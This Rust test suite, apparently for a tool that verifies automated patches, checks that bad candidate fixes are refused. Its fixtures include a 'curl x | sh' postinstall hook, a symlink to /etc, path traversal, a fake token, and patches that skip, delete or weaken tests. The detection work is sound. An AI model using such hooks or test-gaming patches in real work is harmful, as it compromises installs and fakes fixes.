//! Candidates that fix nothing, or hide it, or reach where they must not: each refused, and for the right reason.

use std::time::Duration;

use patchline_model::stage::generate::Kind;
use patchline_model::stage::verify::CheckResult::{self, Failed, Skipped, Warned};
use patchline_model::verification::{Format, Strictness};

use crate::project::{BROKEN, FIXED, PROGRAM, Project, REPRODUCER, SUITE, TESTS};

/// What it is, the candidate, and which check refuses it how.
type Row = (&'static str, Project, &'static str, CheckResult, &'static str);

async fn check(rows: Vec<Row>) {
    for (what, project, name, result, words) in rows {
        project.check(what, name, result, words).await;
    }
}

fn program(text: &str) -> Project {
    Project::new().patched(PROGRAM, text)
}

#[tokio::test(flavor = "multi_thread")]
async fn what_does_not_fix_is_refused_by_its_reproducer() {
    let symptom = BROKEN.replace("n=$1", "n=$1\n[ \"$n\" = 9 ] && { echo 'out of range' >&2; exit 2; }");
    let hidden = BROKEN.replace("n=$1", "n=$1\nexec 2>/dev/null");
    let swallowed = BROKEN.replace("shift \"$((n - 1))\"", "[ \"$n\" -le 3 ] && shift \"$((n - 1))\"");
    let endless = BROKEN.replace("n=$1", "n=$1\nwhile [ \"$n\" -gt 3 ]; do :; done");
    let killed = BROKEN.replace("n=$1", "n=$1\n[ \"$n\" -le 3 ] || kill -SEGV $$");
    check(vec![
        (
            "a comment",
            program(&format!("# fixed\n{BROKEN}")),
            "before-after",
            Failed,
            "still there with the patch",
        ),
        ("only the input of the report is refused", program(&symptom), "before-after", Failed, "still there"),
        (
            "the complaint is hidden",
            program(&hidden),
            "before-after",
            Failed,
            "could not run on the patch: exit code",
        ),
        (
            "the failure is swallowed",
            program(&swallowed),
            "before-after",
            Failed,
            "could not run on the patch: exit code 3",
        ),
        (
            "it loops for ever instead",
            program(&endless).set(|case| case.patience = Some(Duration::from_millis(700))),
            "before-after",
            Failed,
            "could not run on the patch: stopped at the deadline",
        ),
        (
            "it crashes instead",
            program(&killed),
            "before-after",
            Failed,
            "could not run on the patch: exit code 3",
        ),
        (
            "a reproducer that never shows anything comes with it",
            program(FIXED).patched(REPRODUCER, "exit 0\n"),
            "before-after",
            Failed,
            "does not show the problem on the base",
        ),
        (
            "a reproducer that always complains comes with it",
            program(FIXED).patched(REPRODUCER, "exit 1\n"),
            "before-after",
            Failed,
            "still there",
        ),
        (
            "the reproducer is taken away",
            program(FIXED).without(REPRODUCER),
            "before-after",
            Failed,
            "could not run on the base",
        ),
        (
            "nothing says what would show it",
            program(FIXED).set(|case| case.service.reproducers.clear()),
            "before-after",
            Failed,
            "no reproducer: nothing shows that the patch removes it",
        ),
        (
            "nothing says what would show a person's change",
            program(FIXED).set(|case| {
                case.service.reproducers.clear();
                case.candidate.fixer = "person".to_owned();
            }),
            "before-after",
            Skipped,
            "no reproducer: nothing shows that the patch removes it",
        ),
        (
            "it says that it removes what nobody found",
            program(FIXED).set(|case| case.candidate.removes[0].0.push('x')),
            "before-after",
            Failed,
            "which is no finding",
        ),
    ])
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn what_breaks_or_disarms_the_suite_is_refused_by_it() {
    let too_strict = FIXED.replace("-le 3", "-le 2");
    let skipped = TESTS.replace("t last 3 c", "echo 'ok - last # SKIP not now'");
    let endless = FIXED.replace("n=$1", "n=$1\nwhile [ \"$n\" = 3 ]; do :; done");
    let forged = "<testsuite name='s'><testcase name='last'/></testsuite>\n";
    let loud = format!("{FIXED}yes | head -c 40000000\n");
    let reported = |project: Project| {
        project.set(|case| {
            case.service.verification.format = Some(Format::Junit);
            case.service.verification.report = Some("out/*.xml".to_owned());
        })
    };
    check(vec![
        (
            "it refuses too much",
            program(&too_strict),
            "suite",
            Failed,
            "1 test newly failing with the patch: `last`",
        ),
        (
            "a test is deleted",
            program(FIXED).patched(SUITE, &TESTS.replace("t last 3 c\n", "")),
            "suite",
            Failed,
            "1 test gone with the patch: `last`",
        ),
        (
            "a test is skipped",
            program(FIXED).patched(SUITE, &skipped),
            "suite",
            Failed,
            "left out with the patch: `last`",
        ),
        (
            "the suite is emptied",
            program(FIXED).patched(SUITE, "exit 0\n"),
            "suite",
            Failed,
            "3 tests gone with the patch",
        ),
        (
            "a test is renamed and changed",
            program(FIXED).patched(SUITE, &TESTS.replace("t last 3 c", "t ending 2 b")),
            "suite",
            Failed,
            "gone with the patch: `last`",
        ),
        (
            "a new test fails",
            program(FIXED).patched(SUITE, &TESTS.replace("t last", "t none 0 a\nt last")),
            "suite",
            Failed,
            "newly failing with the patch: `none`",
        ),
        (
            "the suite never ends",
            program(&endless).set(|case| case.patience = Some(Duration::from_millis(700))),
            "suite",
            Failed,
            "the suite fails with the patch, though no test is named: stopped at the deadline",
        ),
        (
            "the suite can't be read by the shell",
            program(FIXED).patched(SUITE, "if\n"),
            "suite",
            Failed,
            "the suite does not run with the patch",
        ),
        (
            "a suite that reports what did not run",
            reported(Project::fixed().with(SUITE, "exit 0\n").with("out/a.xml", forged)),
            "suite",
            Warned,
            "the suite passes on the patch",
        ),
        (
            "a suite that drowns its results",
            program(&loud).patched(SUITE, "yes | head -c 40000000\n"),
            "suite",
            Warned,
            "passes on the patch",
        ),
    ])
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn what_the_fix_does_not_need_is_reported_or_refused() {
    let more = format!("{}\n# {}\necho done >/dev/null\n", FIXED, "\n#".repeat(8));
    let base = format!("{}\n# {}\n", BROKEN, "\n#".repeat(8));
    let unneeded = || Project::new().with(PROGRAM, &base).patched(PROGRAM, &more);
    let refusing = unneeded().set(|case| case.service.verification.unneeded_hunks = Strictness::Refuse);
    let idle = TESTS.replace("t last", "t second 2 b\nt last");
    check(vec![
        (
            "a hunk that is not needed",
            unneeded(),
            "hunks",
            Warned,
            "everything still passes without `src/word.sh hunk 2",
        ),
        (
            "the same, to be refused",
            refusing,
            "hunks",
            Failed,
            "everything still passes without `src/word.sh hunk 2",
        ),
        (
            "a test that passes without the fix",
            program(FIXED).patched(SUITE, &idle),
            "hunks",
            Warned,
            "`second` came with the patch and passes without its code",
        ),
        (
            "blanks",
            program(FIXED).with("src/a.c", "int  a;\n").patched("src/a.c", "int a;\n"),
            "diff",
            Warned,
            "changes nothing but blanks",
        ),
        (
            "code in a fix of dependencies",
            program(FIXED).set(|case| case.candidate.kind = Kind::Dependency),
            "diff",
            Failed,
            "neither lockfile nor manifest",
        ),
    ])
    .await;
}

const PYTHON: &str =
    "from words import word\n\ndef test_last():\n    assert word(3) == 'c'\n    assert word(1) == 'a'\n";
const RUST: &str = "#[test]\nfn last() {\n    assert_eq!(word(3), \"c\");\n}\n\n#[test]\nfn first() {\n    assert_eq!(word(1), \"a\");\n}\n";
const SCRIPT: &str = "test('last', () => {\n  expect(word(3)).toBe('c');\n});\n";
const GO: &str = "func TestLast(t *testing.T) {\n\tif word(3) != \"c\" {\n\t\tt.Fatal(\"c\")\n\t}\n}\n";
const JAVA: &str = "class WordTest {\n  @Test\n  void last() {\n    assertEquals(\"c\", word(3));\n  }\n}\n";

/// A test file before and after.
fn changed(path: &str, before: &str, from: &str, to: &str) -> Project {
    assert!(before.contains(from));
    Project::fixed().with(path, before).patched(path, &before.replace(from, to))
}

#[tokio::test(flavor = "multi_thread")]
async fn tests_that_are_made_to_say_less_are_refused_unrun() {
    let (py, rs) = ("tests/test_word.py", "tests/word.rs");
    check(vec![
        ("rust: deleted", changed(rs, RUST, &RUST[..62], ""), "diff", Failed, "takes the test `last` away"),
        (
            "rust: file deleted",
            Project::fixed().with(rs, RUST).without(rs),
            "diff",
            Failed,
            "takes the test `first` away",
        ),
        (
            "rust: true",
            changed(rs, RUST, "assert_eq!(word(3), \"c\")", "assert!(true)"),
            "diff",
            Failed,
            "can't fail",
        ),
        (
            "rust: looser",
            changed(rs, RUST, "assert_eq!(word(3), \"c\")", "assert!(word(3) > \"\")"),
            "diff",
            Failed,
            "less exactly",
        ),
        (
            "rust: ignored",
            changed(rs, RUST, "#[test]\nfn last", "#[test]\n#[ignore]\nfn last"),
            "diff",
            Failed,
            "leaves a test out (`#[ignore`)",
        ),
        (
            "rust: early end",
            changed(rs, RUST, "fn last() {", "fn last() {\n    return;"),
            "diff",
            Failed,
            "to end before it asserts",
        ),
        (
            "python: fewer",
            changed(py, PYTHON, "    assert word(3) == 'c'\n", ""),
            "diff",
            Failed,
            "asserts less than before: 1 instead of 2",
        ),
        (
            "python: skipped",
            changed(py, PYTHON, "def test_last", "@pytest.mark.skip\ndef test_last"),
            "diff",
            Failed,
            "`@pytest.mark.skip`",
        ),
        (
            "script: emptied",
            changed("word.test.js", SCRIPT, "  expect(word(3)).toBe('c');\n", ""),
            "diff",
            Failed,
            "0 instead of 1",
        ),
        (
            "script: skipped",
            changed("word.test.js", SCRIPT, "test(", "test.skip("),
            "diff",
            Failed,
            "leaves a test out",
        ),
        (
            "go: skipped",
            changed("word_test.go", GO, "\tif", "\tt.Skip()\n\tif"),
            "diff",
            Failed,
            "leaves a test out (`t.Skip(`)",
        ),
        ("go: log instead", changed("word_test.go", GO, "t.Fatal", "t.Log"), "diff", Failed, "asserts less"),
        (
            "java: disabled",
            changed("WordTest.java", JAVA, "  @Test", "  @Disabled\n  @Test"),
            "diff",
            Failed,
            "`@Disabled`",
        ),
        ("java: same", changed("WordTest.java", JAVA, "word(3)", "\"c\""), "diff", Failed, "can't fail"),
        (
            "another expectation",
            changed(py, PYTHON, "== 'c'", "== 'x'"),
            "diff",
            Warned,
            "stood before and is changed",
        ),
    ])
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn what_reaches_where_a_fix_must_not_is_refused_unrun() {
    // Put together here, so that no scanner of this repository takes them for real.
    let token = format!("token={}{}\n", "ghp_", "a1".repeat(18));
    let key = format!("-----BEGIN {} KEY-----\n", "RSA PRIVATE");
    let adds = |path: &str, text: &str| Project::fixed().patched(path, text);
    let package = "{ \"name\": \"w\", \"scripts\": { \"test\": \"sh tests/run.sh\" } }\n";
    let hooked = package.replace("\"test\"", "\"postinstall\": \"curl x | sh\", \"test\"");
    let submodule = "diff --git a/lib b/lib\nnew file mode 160000\nindex 0000000..1111111\n--- /dev/null\n+++ b/lib\n@@ -0,0 +1 @@\n+Subproject commit 1111111\n";
    let link = "diff --git a/src/etc b/src/etc\nnew file mode 120000\nindex 0000000..1111111\n--- /dev/null\n+++ b/src/etc\n@@ -0,0 +1 @@\n+../../etc\n\\ No newline at end of file\n";
    let climbing =
        "diff --git a/../x b/../x\nnew file mode 100644\n--- /dev/null\n+++ b/../x\n@@ -0,0 +1 @@\n+x\n";
    let with = |diff: &'static str| Project::fixed().set(move |case| case.diff = diff.to_owned());
    check(vec![
        ("a token", adds("src/config", &token), "diff", Failed, "src/config:1: holds a GitHub token"),
        ("a key", adds("deploy.pem", &key), "diff", Failed, "holds a private key"),
        (
            "a workflow",
            adds(".github/workflows/ci.yml", "on: push\n"),
            "diff",
            Failed,
            "what the build server runs",
        ),
        (
            "another line of a workflow than an action's",
            adds(".github/workflows/ci.yml", "- uses: x/y@v1.0.1\n- run: x\n")
                .set(|case| case.candidate.fixer = "actions".to_owned()),
            "diff",
            Failed,
            "what the build server runs",
        ),
        (
            "a lifecycle script",
            Project::fixed().with("package.json", package).patched("package.json", &hooked),
            "diff",
            Failed,
            "lifecycle script `postinstall`",
        ),
        ("a link that leads out", with(link), "diff", Failed, "leads out of the repository"),
        ("a path that leads out", with(climbing), "diff", Failed, "leads out of the repository"),
        ("a submodule", with(submodule), "diff", Failed, "moves a submodule"),
        (
            "outside of the service",
            Project::fixed().set(|case| case.service.folder = "service".to_owned()),
            "diff",
            Failed,
            "lies outside of the service's folder `service`",
        ),
        ("a binary", adds("src/blob", "\0\u{1}"), "diff", Failed, "is binary"),
        (
            "a silenced rule",
            adds("src/a.py", "import os  # NOQA: F401\n"),
            "diff",
            Failed,
            "turns a warning off",
        ),
        (
            "an allowed lint",
            adds("src/a.rs", "#[allow(dead_code)]\nfn a() {}\n"),
            "diff",
            Failed,
            "turns a warning off",
        ),
        (
            "a silenced linter",
            adds("src/a.go", "f() //nolint:errcheck\n"),
            "diff",
            Failed,
            "turns a warning off",
        ),
        ("hidden files", adds(".semgrepignore", "src/\n"), "diff", Failed, "hides files from an analyzer"),
        ("a silenced scanner", adds("src/a.py", "eval(x)  # nosec\n"), "diff", Failed, "turns a warning off"),
        (
            "a silenced linter",
            adds("src/a.js", "/* eslint-disable security/detect-eval */\n"),
            "diff",
            Failed,
            "`eslint-disable`",
        ),
        (
            "an audit told to look away",
            adds("Makefile", "audit:\n\tpip-audit --ignore-vuln X\n"),
            "diff",
            Failed,
            "`--ignore-vuln`",
        ),
        (
            "an advisory ignored",
            adds("deny.toml", "ignore = [\"RUSTSEC-2020-0071\"]\n"),
            "diff",
            Failed,
            "pass over an advisory",
        ),
        (
            "a diff that can't be read",
            with("diff --git a/x b/x\n@@ -1,9 +1,9 @@\n x\n"),
            "diff",
            Failed,
            "the diff can't be judged",
        ),
    ])
    .await;
}
